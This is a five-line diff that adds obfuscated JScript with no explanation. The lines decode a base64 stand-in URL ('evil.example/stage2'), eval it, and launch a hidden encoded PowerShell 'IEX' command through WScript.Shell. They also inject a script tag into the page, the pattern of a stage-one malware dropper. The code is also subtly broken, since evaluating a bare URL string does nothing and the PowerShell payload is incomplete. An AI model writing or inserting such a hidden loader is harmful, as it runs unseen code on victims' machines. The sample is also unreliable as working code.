@@ -0,0 +1,5 @@
+var p = "aHR0cDovL2V2aWwuZXhhbXBsZS9zdGFnZTI=";
+var s = new ActiveXObject("WScript.Shell");
+eval(atob(p));
+s.Run("powershell -enc SQBFAFgA", 0);
+document.write(unescape("%3Cscript%3E"));